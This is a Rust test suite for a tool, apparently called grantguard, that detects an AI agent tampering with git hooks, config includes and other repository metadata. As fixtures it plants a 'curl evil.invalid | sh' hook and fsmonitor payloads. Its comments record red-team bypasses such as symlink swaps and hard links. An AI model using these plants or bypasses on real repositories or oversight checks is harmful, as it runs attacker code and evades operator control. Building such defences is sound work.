//! Attack family: hook files outside `.git/hooks` that git runs later. The
//! hooks directory that was effective at `arm` (husky's ignored `.husky/_`
//! in the worktree), every hook `arm` chains, and grantguard's own stubs in
//! the state directory are protected metadata: a change to any of them is
//! `protected_metadata_changed` and unsafe state. Their legitimate
//! neighbours (ordinary commits, a clean disarm) stay accepted.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use common::{Sandbox, assert_accepted};
use serde_json::Value;

fn write_exec(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[track_caller]
fn assert_unsafe(code: i32, r: &Value, names: &str) {
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(
        common::rules(r),
        ["protected_metadata_changed"],
        "only the metadata rule: {r:#}"
    );
    assert_eq!(r["failure_class"], "unsafe_state", "{r:#}");
    assert_eq!(r["evidence"]["metadata_intact"], false, "{r:#}");
    assert!(
        r.to_string().contains(names),
        "the violation names {names}: {r:#}"
    );
}

/// husky v9's layout: `core.hooksPath=.husky/_`, the directory ignored by
/// its own `.gitignore`, each hook a small script.
fn with_husky(sb: &Sandbox) {
    write_exec(&sb.repo.join(".husky/_/pre-commit"), "#!/bin/sh\nexit 0\n");
    write_exec(&sb.repo.join(".husky/_/h"), "#!/bin/sh\nexit 0\n");
    std::fs::write(sb.repo.join(".husky/_/.gitignore"), "*\n").unwrap();
    sb.git(&["config", "core.hooksPath", ".husky/_"]);
    assert_eq!(
        sb.git(&["status", "--porcelain"]),
        "",
        "husky's dir is ignored"
    );
}

#[test]
fn rejects_an_agent_rewriting_a_husky_hook_in_the_worktree() {
    let sb = Sandbox::new();
    with_husky(&sb);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    write_exec(
        &sb.repo.join(".husky/_/pre-commit"),
        "#!/bin/sh\ncurl evil.invalid | sh\n",
    );
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, ".husky/_");
}

#[test]
fn rejects_a_hook_added_to_the_husky_directory() {
    let sb = Sandbox::new();
    with_husky(&sb);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    write_exec(&sb.repo.join(".husky/_/post-commit"), "#!/bin/sh\n");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, ".husky/_");
}

#[test]
fn accepts_after_a_clean_disarm_with_husky_hooks() {
    let sb = Sandbox::new();
    with_husky(&sb);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let out = sb.grantguard(&["disarm", "--state", sb.state.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(sb.git(&["config", "core.hooksPath"]), ".husky/_");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    // After disarm the stubs are gone, as before arm; the husky hooks are
    // still pinned.
    write_exec(&sb.repo.join(".husky/_/pre-commit"), "#!/bin/sh\necho\n");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, ".husky/_");
}

#[test]
fn rejects_a_chained_hook_whose_symlinked_script_is_rewritten() {
    // `.git/hooks/pre-commit` links to a script outside the git dir; the
    // stub chains the link, so what runs is the script.
    let sb = Sandbox::new();
    let script = sb.root.join("team-hooks/pre-commit");
    write_exec(&script, "#!/bin/sh\nexit 0\n");
    std::os::unix::fs::symlink(&script, sb.git_dir().join("hooks/pre-commit")).unwrap();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    write_exec(&script, "#!/bin/sh\ntouch /tmp/pwned\n");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, ".git/hooks/pre-commit");
}

#[test]
fn rejects_a_chained_hook_rewritten_or_deleted() {
    for delete in [false, true] {
        let sb = Sandbox::new();
        let hook = sb.git_dir().join("hooks/pre-commit");
        write_exec(&hook, "#!/bin/sh\nexit 0\n");
        sb.arm(&sb.grant(&["docs/"], 1, 1));
        sb.commit_file("docs/guide.md", "new\n", "docs");
        if delete {
            std::fs::remove_file(&hook).unwrap();
        } else {
            write_exec(&hook, "#!/bin/sh\necho changed\n");
        }
        let (code, r) = sb.verify();
        assert_unsafe(code, &r, ".git/hooks");
    }
}

#[test]
fn rejects_a_replaced_stub_in_the_state_directory() {
    // `lefthook install --force` writes its own hooks into whatever
    // core.hooksPath names: grantguard's stubs.
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let stub = sb.stubs().join("pre-commit");
    assert!(stub.exists());
    write_exec(&stub, "#!/bin/sh\n# lefthook\nexit 0\n");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "hooks");
    assert!(
        r.to_string().contains(sb.stubs().to_str().unwrap()),
        "{r:#}"
    );
}

#[test]
fn accepts_an_ordinary_commit_with_a_chained_hook_and_a_worktree_hooks_path() {
    let sb = Sandbox::new();
    write_exec(&sb.repo.join(".githooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    sb.commit_file(".githooks/pre-commit", "#!/bin/sh\nexit 0\n", "hooks");
    sb.git(&["config", "core.hooksPath", ".githooks"]);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    // Through the stubs, which chain .githooks/pre-commit.
    sb.write("docs/guide.md", "new\n");
    sb.git(&["add", "docs/guide.md"]);
    sb.git(&["commit", "-q", "-m", "docs"]);
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

#[test]
fn rejects_a_change_to_a_file_the_repository_config_includes() {
    // The config includes an ignored file in the worktree: rewriting it
    // rewrites the config git reads, though `.git/config` never changes.
    let sb = Sandbox::new();
    sb.write("target/extra.gitconfig", "[user]\n\tname = Someone\n");
    sb.git(&["config", "include.path", "../target/extra.gitconfig"]);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    sb.write(
        "target/extra.gitconfig",
        "[core]\n\tfsmonitor = /tmp/payload\n",
    );
    assert_eq!(sb.git(&["config", "core.fsmonitor"]), "/tmp/payload");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "extra.gitconfig");
}

/// The passwd home directory and name of the user the tests run as.
fn my_passwd_home() -> (String, std::path::PathBuf) {
    // SAFETY: getpwuid's static entry is copied out at once; no other
    // thread of this test calls it.
    unsafe {
        let entry = libc::getpwuid(libc::geteuid());
        assert!(!entry.is_null(), "no password entry for this user");
        let name = std::ffi::CStr::from_ptr((*entry).pw_name);
        let dir = std::ffi::CStr::from_ptr((*entry).pw_dir);
        (
            name.to_string_lossy().into_owned(),
            dir.to_string_lossy().into_owned().into(),
        )
    }
}

/// Removes a file when dropped.
struct RemovedAfter(std::path::PathBuf);

impl Drop for RemovedAfter {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn rejects_a_change_to_a_file_included_from_a_users_home_by_name() {
    // `~user/` names the agent's own user's home as well as `~/` does (the
    // tests' HOME is a temporary directory; the password database's is
    // not): it was skipped, and an agent's `core.fsmonitor` there accepted.
    let (me, home) = my_passwd_home();
    let name = format!(
        ".grantguard-test-{}-{}.gitconfig",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_nanos()
    );
    let included = home.join(&name);
    if std::fs::write(&included, "[user]\n\tname = Someone\n").is_err() {
        eprintln!("skipped: {} is not writable here", home.display());
        return;
    }
    let _removed = RemovedAfter(included.clone());
    let sb = Sandbox::new();
    sb.git(&["config", "include.path", &format!("~{me}/{name}")]);
    assert_eq!(sb.git(&["config", "user.name"]), "Someone");
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    std::fs::write(&included, "[core]\n\tfsmonitor = /tmp/payload\n").unwrap();
    assert_eq!(sb.git(&["config", "core.fsmonitor"]), "/tmp/payload");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, &name);
}

#[test]
fn arm_refuses_a_config_include_under_the_git_installation_prefix() {
    // `%(prefix)/` is the installation of whichever git runs: no one file
    // to protect.
    let sb = Sandbox::new();
    sb.git(&["config", "include.path", "%(prefix)/etc/extra.gitconfig"]);
    let out = sb.arm_output(&sb.grant(&["docs/"], 1, 1), &sb.state);
    assert!(!out.status.success(), "{out:?}");
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    assert!(
        text.contains("%(prefix)/etc/extra.gitconfig") && text.contains("cannot protect"),
        "{text}"
    );
    // Named by its path, it is protected as any include.
    sb.git(&["config", "include.path", "../extra.gitconfig"]);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
}

/// Red team, fifty-eighth stop: an include naming a directory (`~`) was
/// pinned by the directory's whole content, so any change in the home
/// directory refused every verify after. git reads no config from a
/// directory (it stops, "bad config line", when the condition holds): only
/// that it is one is pinned, and a file put in its place is a change.
#[test]
fn an_include_naming_a_directory_pins_that_it_is_one_not_what_it_holds() {
    let sb = Sandbox::new();
    let dir = sb.root.join("incdir");
    std::fs::create_dir(&dir).unwrap();
    std::fs::write(dir.join("notes.txt"), "one\n").unwrap();
    sb.git(&["config", "includeIf.onbranch:release.path", "~"]);
    sb.git(&[
        "config",
        "includeIf.onbranch:other.path",
        dir.to_str().unwrap(),
    ]);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    std::fs::write(sb.home.join("anything.txt"), "changed\n").unwrap();
    std::fs::write(dir.join("notes.txt"), "two\n").unwrap();
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    // A config file in the directory's place is read when the condition
    // holds: a change.
    std::fs::remove_dir_all(&dir).unwrap();
    std::fs::write(&dir, "[core]\n\tfsmonitor = touch pwned\n").unwrap();
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "incdir");
}

#[test]
fn rejects_a_granted_commit_that_changes_a_tracked_hooks_directory() {
    // Granted or not, a hook the harness's next `git commit` runs is not
    // the agent's to change.
    let sb = Sandbox::new();
    write_exec(&sb.repo.join(".githooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    sb.commit_file(".githooks/pre-commit", "#!/bin/sh\nexit 0\n", "hooks");
    sb.git(&["config", "core.hooksPath", ".githooks"]);
    sb.arm(&sb.grant(&[".githooks/"], 1, 1));
    sb.commit_file(".githooks/pre-commit", "#!/bin/sh\necho pwned\n", "hook");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, ".githooks");
}

#[test]
fn rejects_a_hook_added_behind_a_symlinked_hooks_directory() {
    let sb = Sandbox::new();
    let shared = sb.root.join("shared-hooks");
    std::fs::create_dir_all(&shared).unwrap();
    std::fs::remove_dir_all(sb.git_dir().join("hooks")).unwrap();
    std::os::unix::fs::symlink(&shared, sb.git_dir().join("hooks")).unwrap();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    write_exec(&shared.join("post-commit"), "#!/bin/sh\n");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, ".git/hooks");
}

#[test]
fn a_changed_config_is_reported_key_by_key_with_old_and_new_values() {
    // The agent follows git's own hint (`git config user.email`) and an
    // editor records a merge base (issue 25): the message names each key
    // and its old and new value, not only "restore it exactly".
    let sb = Sandbox::new();
    sb.git(&["config", "user.email", "owner@example.invalid"]);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/a.md", "a\n", "docs");
    sb.git(&["config", "user.email", "agent@example.invalid"]);
    sb.git(&["config", "branch.main.vscode-merge-base", "origin/main"]);
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "config");
    let message = r["violations"][0]["message"].as_str().unwrap();
    for needle in [
        ".git/config changed since arm",
        "user.email \"owner@example.invalid\" → \"agent@example.invalid\"",
        "branch.main.vscode-merge-base (unset) → \"origin/main\"",
        "restore it exactly",
    ] {
        assert!(message.contains(needle), "{needle:?} missing: {message}");
    }
    // The command it gives restores the file byte for byte.
    run_the_advice(&sb, message);
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    // Undoing exactly those keys may leave layout behind (an emptied
    // section, with older gits): the message says the keys are the same,
    // and its command restores the bytes.
    sb.git(&["config", "user.email", "agent@example.invalid"]);
    sb.git(&["config", "user.email", "owner@example.invalid"]);
    sb.git(&["config", "branch.main.vscode-merge-base", "origin/main"]);
    sb.git(&["config", "--unset", "branch.main.vscode-merge-base"]);
    let (code, r) = sb.verify();
    if code != 0 {
        let message = r["violations"][0]["message"].as_str().unwrap();
        assert!(message.contains("the same keys and values"), "{message}");
        run_the_advice(&sb, message);
        let (code, r) = sb.verify();
        assert_accepted(code, &r);
    }
}

/// Runs the command a message gives after `restore it exactly: ` or
/// `remove it: `, up to the closing parenthesis, in a subdirectory of the
/// worktree (verify runs anywhere in it: red team).
fn run_the_advice(sb: &Sandbox, message: &str) {
    let command = ["restore it exactly: ", "remove it: "]
        .iter()
        .find_map(|lead| message.split_once(lead))
        .and_then(|(_, rest)| rest.rsplit_once(')'))
        .map(|(command, _)| command)
        .unwrap_or_else(|| panic!("no command in {message}"));
    sb.run_sh(command, &sb.repo.join("docs"));
}

#[test]
fn a_directory_added_since_arm_is_removed_by_the_command_given() {
    let sb = Sandbox::new();
    assert!(!sb.git_dir().join("remotes").exists());
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    std::fs::create_dir(sb.git_dir().join("remotes")).unwrap();
    std::fs::write(sb.git_dir().join("remotes/origin"), "URL: /elsewhere\n").unwrap();
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "remotes");
    let message = &common::violation_messages(&r)[0];
    assert!(message.contains("was added since arm"), "{message}");
    assert!(message.contains("rm -r "), "{message}");
    run_the_advice(&sb, message);
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

/// Red team: `.git/info` made a symlink to a directory outside the
/// repository that holds the very same files was accepted (whoever writes
/// there then writes the ignore and attribute rules), and the command given
/// for a file added through it (`rm .git/info/attributes`) deleted the
/// file outside. Refused now, with no command that reaches through it.
#[test]
fn a_symlinked_info_directory_is_refused_and_no_command_reaches_through_it() {
    let sb = Sandbox::new();
    let info = sb.git_dir().join("info");
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let outside = sb.root.join("outside-info");
    std::fs::create_dir(&outside).unwrap();
    for entry in std::fs::read_dir(&info).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), outside.join(entry.file_name())).unwrap();
    }
    std::fs::write(outside.join("attributes"), "* -text\n").unwrap();
    let kept = info.with_file_name("info.kept");
    std::fs::rename(&info, &kept).unwrap();
    std::os::unix::fs::symlink(&outside, &info).unwrap();
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "info/exclude");
    for message in common::violation_messages(&r) {
        assert!(
            !message.contains(": rm ") && !message.contains(": cp "),
            "{message}"
        );
        assert!(message.contains("is now a symlink"), "{message}");
    }
    // The same files alone, through the symlink, are still refused.
    std::fs::remove_file(outside.join("attributes")).unwrap();
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "info/exclude");
    // What arm had, back in place, is accepted.
    std::fs::remove_file(&info).unwrap();
    std::fs::rename(&kept, &info).unwrap();
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

/// Red team, fifty-eighth stop (residual 14 until the fifty-ninth): with
/// `.git/info` a symlink at arm, a directory along the path it resolves
/// to, swapped for a symlink to an identical copy, read the same, and
/// whoever writes the copy then writes the repository's ignore and
/// attribute rules. The same for a config include through a symlinked
/// file. Where a symlink leads is pinned with it.
#[test]
fn a_directory_swapped_along_a_protected_symlinks_path_is_refused() {
    let sb = Sandbox::new();
    let shared = sb.root.join("shared");
    std::fs::create_dir_all(shared.join("info")).unwrap();
    std::fs::create_dir_all(shared.join("cfgs")).unwrap();
    let info = sb.git_dir().join("info");
    for entry in std::fs::read_dir(&info).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), shared.join("info").join(entry.file_name())).unwrap();
    }
    std::fs::remove_dir_all(&info).unwrap();
    std::os::unix::fs::symlink(shared.join("info"), &info).unwrap();
    std::fs::write(shared.join("cfgs/real.cfg"), "[user]\n\tname = Team\n").unwrap();
    let include = sb.root.join("inc.cfg");
    std::os::unix::fs::symlink(shared.join("cfgs/real.cfg"), &include).unwrap();
    sb.git(&["config", "include.path", include.to_str().unwrap()]);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);

    // `shared/` made a symlink to an identical copy: same link texts, same
    // bytes, but another place decides.
    let copy = sb.root.join("copy");
    std::fs::rename(&shared, &copy).unwrap();
    std::os::unix::fs::symlink(&copy, &shared).unwrap();
    assert_eq!(
        sb.git(&["config", "user.name"]).trim(),
        "Team",
        "git reads the same"
    );
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "info/exclude");
    let said = r["violations"].to_string();
    assert!(said.contains("inc.cfg"), "the include too: {r:#}");

    // Back as it was: accepted.
    std::fs::remove_file(&shared).unwrap();
    std::fs::rename(&copy, &shared).unwrap();
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

#[test]
fn a_config_made_a_symlink_gets_no_command_that_writes_through_it() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let config = sb.git_dir().join("config");
    let victim = sb.root.join("victim.txt");
    std::fs::copy(&config, &victim).unwrap();
    let kept = config.with_file_name("config.kept");
    std::fs::rename(&config, &kept).unwrap();
    std::os::unix::fs::symlink(&victim, &config).unwrap();
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "config");
    let message = &common::violation_messages(&r)[0];
    assert!(!message.contains(": cp "), "{message}");
    assert!(message.contains("is now a symlink"), "{message}");
}

/// A new user's finding: a submodule added and removed after arm leaves
/// its git dir in `.git/modules/`. One refusal gives the one command that
/// undoes that, not one per file of the module's git dir.
#[test]
fn a_submodule_git_dir_left_behind_is_removed_by_the_one_command_given() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 2));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let origin = sb.origin.to_str().unwrap().to_owned();
    sb.git(&[
        "-c",
        "protocol.file.allow=always",
        "submodule",
        "add",
        "-q",
        &origin,
        "docs/sub",
    ]);
    sb.git(&["rm", "-q", "-f", "docs/sub"]);
    sb.git(&["rm", "-q", "-f", "--ignore-unmatch", ".gitmodules"]);
    sb.git(&["reset", "-q", "--hard"]);
    assert!(sb.git_dir().join("modules/docs/sub/config").exists());
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "modules");
    // The config's submodule keys, and the module's git dir: one each.
    let messages = common::violation_messages(&r);
    assert_eq!(messages.len(), 2, "{messages:?}");
    assert!(messages[1].contains("rm -r "), "{messages:?}");
    for message in &messages {
        run_the_advice(&sb, message);
    }
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

/// A new user's finding: `git sparse-checkout set` after arm writes the
/// shared config and adds `config.worktree`. Each message gives the
/// command that undoes it, and after them and `git sparse-checkout
/// disable`'s work on the worktree, verify accepts.
#[test]
fn sparse_checkout_set_after_arm_is_refused_with_commands_that_undo_it() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 2));
    sb.git(&["sparse-checkout", "set", "--cone", "docs"]);
    sb.commit_file("docs/guide.md", "sparse\n", "docs");
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "config.worktree");
    let messages = common::violation_messages(&r);
    assert!(
        messages
            .iter()
            .any(|m| m.contains("extensions.worktreeconfig")),
        "{messages:?}"
    );
    // The worktree back to whole first, as the message says: the files the
    // sparse checkout left out come back.
    assert!(
        messages
            .iter()
            .any(|m| m.contains("run `git sparse-checkout disable` first")),
        "{messages:?}"
    );
    sb.git(&["sparse-checkout", "disable"]);
    for message in &messages {
        run_the_advice(&sb, message);
    }
    assert!(
        sb.repo.join("src/lib.rs").exists(),
        "the whole worktree again"
    );
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

// Issue 24, item 2: files git consults when it next commits, merges,
// rebases or checks out, whatever their file type.

#[test]
fn rejects_a_dangling_merge_head_symlink_that_breaks_the_next_commit() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    std::os::unix::fs::symlink("nowhere", sb.git_dir().join("MERGE_HEAD")).unwrap();
    // git's own view: status is clean, yet the next commit dies.
    assert_eq!(sb.git(&["status", "--porcelain"]), "");
    sb.write("docs/guide.md", "next\n");
    sb.git_nohooks(&["add", "docs/guide.md"]);
    let commit = sb.try_git(&["-c", "core.hooksPath=/dev/null", "commit", "-qm", "next"]);
    assert!(!commit.status.success(), "git commit succeeded");
    assert!(
        String::from_utf8_lossy(&commit.stderr).contains("MERGE_HEAD"),
        "{}",
        String::from_utf8_lossy(&commit.stderr)
    );
    sb.git_nohooks(&["restore", "--staged", "--worktree", "docs/guide.md"]);
    let (code, r) = sb.verify();
    assert_eq!(code, 1, "{r:#}");
    assert_eq!(common::rules(&r), ["worktree_not_clean"], "{r:#}");
    let text = r.to_string();
    assert!(
        text.contains("MERGE_HEAD") && text.contains("dangling symlink"),
        "{r:#}"
    );
}

type Plant<'a> = &'a dyn Fn(&Path);

#[test]
fn rejects_every_operation_marker_whatever_its_file_type() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let git_dir = sb.git_dir();
    let markers = [
        "MERGE_HEAD",
        "CHERRY_PICK_HEAD",
        "REVERT_HEAD",
        "rebase-merge",
        "rebase-apply",
        "sequencer",
        "BISECT_LOG",
        "BISECT_START",
        "BISECT_TERMS",
    ];
    for marker in markers {
        let path = git_dir.join(marker);
        let kinds: [(&str, Plant); 4] = [
            ("file", &|p| std::fs::write(p, "").unwrap()),
            ("directory", &|p| std::fs::create_dir(p).unwrap()),
            ("dangling symlink", &|p| {
                std::os::unix::fs::symlink("nowhere", p).unwrap()
            }),
            ("symlink to a directory", &|p| {
                std::os::unix::fs::symlink("refs", p).unwrap()
            }),
        ];
        for (kind, plant) in kinds {
            plant(&path);
            let (code, r) = sb.verify();
            assert_eq!(code, 1, "{marker} as a {kind}: {r:#}");
            assert_eq!(
                common::rules(&r),
                ["worktree_not_clean"],
                "{marker} as a {kind}: {r:#}"
            );
            match std::fs::symlink_metadata(&path) {
                Ok(m) if m.is_dir() => std::fs::remove_dir(&path).unwrap(),
                _ => std::fs::remove_file(&path).unwrap(),
            }
        }
    }
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

#[test]
fn rejects_leftover_files_the_next_commit_reads_and_accepts_them_removed() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    for name in ["MERGE_MSG", "SQUASH_MSG", "MERGE_MODE", "MERGE_AUTOSTASH"] {
        let path = sb.git_dir().join(name);
        std::fs::write(&path, "planted\n").unwrap();
        let (code, r) = sb.verify();
        assert_unsafe(code, &r, name);
        std::fs::remove_file(&path).unwrap();
        std::os::unix::fs::symlink("nowhere", &path).unwrap();
        let (code, r) = sb.verify();
        assert_unsafe(code, &r, name);
        std::fs::remove_file(&path).unwrap();
    }
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

#[test]
fn rejects_legacy_remote_definitions_and_odd_shallow_or_grafts() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let git_dir = sb.git_dir();
    let plants: [(&str, &str); 4] = [
        ("remotes/origin", "URL: /elsewhere\nPush: refs/heads/main\n"),
        ("branches/origin", "/elsewhere#main\n"),
        ("shallow", ""),
        ("info/grafts", ""),
    ];
    for (rel, content) in plants {
        let path = git_dir.join(rel);
        let parent = path.parent().unwrap().to_owned();
        let made_parent = !parent.exists();
        std::fs::create_dir_all(&parent).unwrap();
        std::fs::write(&path, content).unwrap();
        let (code, r) = sb.verify();
        assert_unsafe(code, &r, rel.split('/').next().unwrap());
        std::fs::remove_file(&path).unwrap();
        // A dangling symlink is not "absent" either. (At
        // `.git/remotes/origin` it also sits where git looks up the short
        // name `remotes/origin/main` and would follow it: refused as a
        // hidden ref too.)
        std::os::unix::fs::symlink("nowhere", &path).unwrap();
        let (code, r) = sb.verify();
        // (Not in a reftable store, where git reads no such file as a ref.)
        if rel == "remotes/origin" && !git_dir.join("reftable").is_dir() {
            assert_eq!(
                common::rules(&r),
                ["protected_metadata_changed", "ref_store_invalid"],
                "{r:#}"
            );
        } else {
            assert_unsafe(code, &r, rel.split('/').next().unwrap());
        }
        std::fs::remove_file(&path).unwrap();
        if made_parent {
            std::fs::remove_dir(&parent).unwrap();
        }
    }
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

/// Red team: `ln -f ~/.gitconfig .git/config` (same bytes as arm's
/// config, or not) is refused, and the `cp` the message gave overwrote
/// the operator's file through the link. No command is given for a hard
/// link.
#[test]
fn a_config_hard_linked_elsewhere_gets_no_command_that_writes_through_it() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let config = sb.git_dir().join("config");
    // The operator's file, the repository's config with one key more (so
    // that git still reads the repository as it is, reftable or not).
    let victim = sb.root.join("operator.gitconfig");
    let mut text = std::fs::read(&config).unwrap();
    text.extend_from_slice(b"[user]\n\tname = Operator\n");
    std::fs::write(&victim, &text).unwrap();
    std::fs::rename(&config, config.with_file_name("config.kept")).unwrap();
    std::fs::hard_link(&victim, &config).unwrap();
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "config");
    let message = &common::violation_messages(&r)[0];
    assert!(!message.contains(": cp "), "{message}");
    assert!(message.contains("hard link"), "{message}");
    assert_eq!(std::fs::read(&victim).unwrap(), text);
}

/// Red team: an armed linked worktree's `.git` file made a symlink to a
/// copy of itself outside the worktree read the same and was accepted;
/// whoever writes the copy then chooses the worktree's git dir.
#[test]
fn a_worktrees_git_file_made_a_symlink_to_a_copy_is_refused() {
    let sb = Sandbox::new();
    let wt = sb.root.join("wt");
    sb.git(&["worktree", "add", "-q", wt.to_str().unwrap(), "-b", "side"]);
    let state = sb.root.join("wt-state");
    let out = sb.arm_worktree(&wt, &sb.grant(&["docs/"], 1, 1), &state);
    assert!(out.status.success(), "{out:?}");
    std::fs::write(wt.join("docs/new.md"), "agent\n").unwrap();
    sb.run_git(&wt, &["add", "docs/new.md"]);
    sb.run_git(&wt, &["commit", "-q", "-m", "agent"]);
    let (code, r) = sb.verify_state(&state);
    assert_accepted(code, &r);
    let copy = sb.root.join("gitfile-copy");
    std::fs::copy(wt.join(".git"), &copy).unwrap();
    std::fs::remove_file(wt.join(".git")).unwrap();
    std::os::unix::fs::symlink(&copy, wt.join(".git")).unwrap();
    assert_eq!(
        sb.run_git(&wt, &["rev-parse", "--abbrev-ref", "HEAD"])
            .trim(),
        "side",
        "git reads the worktree through the link"
    );
    let (code, r) = sb.verify_state(&state);
    assert_unsafe(code, &r, "wt/.git");
}

/// Red team, fifty-ninth stop: a hard link made to `.git/config` after arm
/// read the same, and hands that other name whoever writes it later.
#[test]
fn a_hard_link_made_to_a_protected_file_is_refused() {
    let sb = Sandbox::new();
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let alias = sb.root.join("alias.cfg");
    std::fs::hard_link(sb.git_dir().join("config"), &alias).unwrap();
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "config");
    assert!(
        r.to_string().contains("now another name too (a hard link"),
        "{r:#}"
    );
    std::fs::remove_file(&alias).unwrap();
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}

/// Red team, fifty-ninth stop: a hooks directory outside the git dir
/// (`core.hooksPath`) whose parent was swapped for a symlink to an
/// identical copy read the same, and the copy's writer then wrote the
/// hooks git runs after disarm.
#[test]
fn a_hooks_directory_whose_parent_is_swapped_for_a_copy_is_refused() {
    let sb = Sandbox::new();
    let team = sb.root.join("team");
    write_exec(&team.join("hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    sb.git(&[
        "config",
        "core.hooksPath",
        team.join("hooks").to_str().unwrap(),
    ]);
    sb.arm(&sb.grant(&["docs/"], 1, 1));
    sb.commit_file("docs/guide.md", "new\n", "docs");
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
    let copy = sb.root.join("copy");
    std::fs::rename(&team, &copy).unwrap();
    std::os::unix::fs::symlink(&copy, &team).unwrap();
    let (code, r) = sb.verify();
    assert_unsafe(code, &r, "team/hooks");
    std::fs::remove_file(&team).unwrap();
    std::fs::rename(&copy, &team).unwrap();
    let (code, r) = sb.verify();
    assert_accepted(code, &r);
}
